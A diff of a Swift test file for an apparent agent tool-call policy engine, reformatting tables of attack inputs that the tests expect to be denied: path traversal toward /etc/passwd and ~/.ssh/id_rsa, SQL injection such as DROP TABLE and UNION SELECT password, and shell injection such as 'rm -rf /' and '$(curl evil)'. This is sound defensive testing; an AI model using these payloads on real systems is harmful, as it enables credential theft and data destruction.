@@ -6,44 +6,52 @@ import Testing
 struct AttackTableTests {
     static let snapshot = try! PolicyFixtures.shipped()
 
-    func decide(_ tenant: String, _ tool: String, _ arguments: String, agent: String = "bot1", scopes: Set<String> = ["tools:read"]) throws -> PolicyDecision {
+    func decide(
+        _ tenant: String, _ tool: String, _ arguments: String, agent: String = "bot1", scopes: Set<String> = ["tools:read"]
+    ) throws -> PolicyDecision {
         Self.snapshot.evaluate(try PolicyFixtures.call(tool, arguments, agent: agent, tenant: tenant, scopes: scopes))
     }
 
-    @Test("path traversal in every disguise is denied (acme read_file)", arguments: [
-        #"{"path":"../../etc/passwd"}"#, #"{"path":"..\\..\\windows\\win.ini"}"#, #"{"path":"%2e%2e/%2e%2e/etc/passwd"}"#,
-        #"{"path":"%252e%252e/etc/passwd"}"#, #"{"path":"%25252e%25252e%25252fetc"}"#, #"{"path":"．．／．．／etc/passwd"}"#,
-        #"{"path":"docs/../../secret"}"#, #"{"opts":{"path":"../x"}}"#, #"{"path":["ok.txt","../x"]}"#,
-        #"{"PATH":"../x"}"#, #"{"Path":"../x"}"#, #"{"ＰＡＴＨ":"../x"}"#, #"{"path":"ok.txt","PATH":"../x"}"#,
-        #"{"path":"notes.txt\u0000../../etc/passwd"}"#, #"{"path":"/etc/passwd"}"#, #"{"path":"C:/Windows/system.ini"}"#,
-        #"{"path":"~/.ssh/id_rsa"}"#, #"{"path":"..%c0%af../etc"}"#, #"{"path":"..%5c..%5cboot.ini"}"#,
-    ])
+    @Test(
+        "path traversal in every disguise is denied (acme read_file)",
+        arguments: [
+            #"{"path":"../../etc/passwd"}"#, #"{"path":"..\\..\\windows\\win.ini"}"#, #"{"path":"%2e%2e/%2e%2e/etc/passwd"}"#,
+            #"{"path":"%252e%252e/etc/passwd"}"#, #"{"path":"%25252e%25252e%25252fetc"}"#, #"{"path":"．．／．．／etc/passwd"}"#,
+            #"{"path":"docs/../../secret"}"#, #"{"opts":{"path":"../x"}}"#, #"{"path":["ok.txt","../x"]}"#,
+            #"{"PATH":"../x"}"#, #"{"Path":"../x"}"#, #"{"ＰＡＴＨ":"../x"}"#, #"{"path":"ok.txt","PATH":"../x"}"#,
+            #"{"path":"notes.txt\u0000../../etc/passwd"}"#, #"{"path":"/etc/passwd"}"#, #"{"path":"C:/Windows/system.ini"}"#,
+            #"{"path":"~/.ssh/id_rsa"}"#, #"{"path":"..%c0%af../etc"}"#, #"{"path":"..%5c..%5cboot.ini"}"#,
+        ])
     func traversal(arguments: String) throws {
         let decision = try decide("acme", "read_file", arguments)
         #expect(decision.outcome == .deny, "\(arguments): \(decision.reason)")
         #expect(["R4", "A1"].contains(decision.rule), "\(arguments): decided by \(decision.rule)")
     }
 
-    @Test("benign file names pass", arguments: [
-        #"{"path":"notes..txt"}"#, #"{"path":"docs/report.v2..final.md"}"#, #"{"path":"a/b/c.txt"}"#, #"{"path":"..hidden"}"#,
-        #"{"path":"100%.txt"}"#,
-    ])
+    @Test(
+        "benign file names pass",
+        arguments: [
+            #"{"path":"notes..txt"}"#, #"{"path":"docs/report.v2..final.md"}"#, #"{"path":"a/b/c.txt"}"#, #"{"path":"..hidden"}"#,
+            #"{"path":"100%.txt"}"#,
+        ])
     func benignPaths(arguments: String) throws {
         let decision = try decide("acme", "read_file", arguments)
         #expect(decision.outcome == .allow, "\(arguments): \(decision.reason)")
     }
 
-    @Test("SQL injection is denied where the detector applies (acme query_db, globex exec_sql)", arguments: [
-        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE name = '' OR '1'='1'"}"#),
-        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE id = 1; DROP TABLE users; --"}"#),
-        ("acme", "query_db", #"{"sql":"SELECT a FROM t WHERE b='x' UNION SELECT password FROM users"}"#),
-        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE name = 'admin'--'"}"#),
-        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE id=1 AND SLEEP(5)"}"#),
-        ("acme", "query_db", #"{"sql":"SELECT%20*%20FROM%20t%20WHERE%20a%3D''%20OR%201%3D1"}"#),
-        ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE a = 'x' uNiOn/**/SeLeCt pw FROM u"}"#),
-        ("globex", "exec_sql", #"{"query":"SELECT * FROM t WHERE a=''; DELETE FROM t; "}"#),
-        ("globex", "exec_sql", #"{"query":"DELETE FROM t"}"#),
-    ])
+    @Test(
+        "SQL injection is denied where the detector applies (acme query_db, globex exec_sql)",
+        arguments: [
+            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE name = '' OR '1'='1'"}"#),
+            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE id = 1; DROP TABLE users; --"}"#),
+            ("acme", "query_db", #"{"sql":"SELECT a FROM t WHERE b='x' UNION SELECT password FROM users"}"#),
+            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE name = 'admin'--'"}"#),
+            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE id=1 AND SLEEP(5)"}"#),
+            ("acme", "query_db", #"{"sql":"SELECT%20*%20FROM%20t%20WHERE%20a%3D''%20OR%201%3D1"}"#),
+            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE a = 'x' uNiOn/**/SeLeCt pw FROM u"}"#),
+            ("globex", "exec_sql", #"{"query":"SELECT * FROM t WHERE a=''; DELETE FROM t; "}"#),
+            ("globex", "exec_sql", #"{"query":"DELETE FROM t"}"#),
+        ])
     func sqlInjection(tenant: String, tool: String, arguments: String) throws {
         let decision = try decide(tenant, tool, arguments)
         #expect(decision.outcome == .deny, "\(arguments): \(decision.reason)")
@@ -57,10 +65,12 @@ struct AttackTableTests {
         #expect(try decide("globex", "create_ticket", #"{"title":"O'Brien says: DROP the old plan"}"#).outcome == .audit)
     }
 
-    @Test("shell metacharacters are denied where the detector applies (globex convert_document)", arguments: [
-        "report.pdf; rm -rf /", "a.pdf | nc evil 1", "$(curl evil)", "`id`.pdf", "a.pdf && reboot", "x > /etc/passwd",
-        "${IFS}cat", "$HOME/x", "a.pdf\nrm", "%3B%20rm%20-rf", "ａ．ｐｄｆ；ｒｍ",
-    ])
+    @Test(
+        "shell metacharacters are denied where the detector applies (globex convert_document)",
+        arguments: [
+            "report.pdf; rm -rf /", "a.pdf | nc evil 1", "$(curl evil)", "`id`.pdf", "a.pdf && reboot", "x > /etc/passwd",
+            "${IFS}cat", "$HOME/x", "a.pdf\nrm", "%3B%20rm%20-rf", "ａ．ｐｄｆ；ｒｍ",
+        ])
     func shell(filename: String) throws {
         let escaped = filename.replacingOccurrences(of: "\n", with: "\\n")
         let decision = try decide("globex", "convert_document", #"{"filename":"\#(escaped)"}"#)
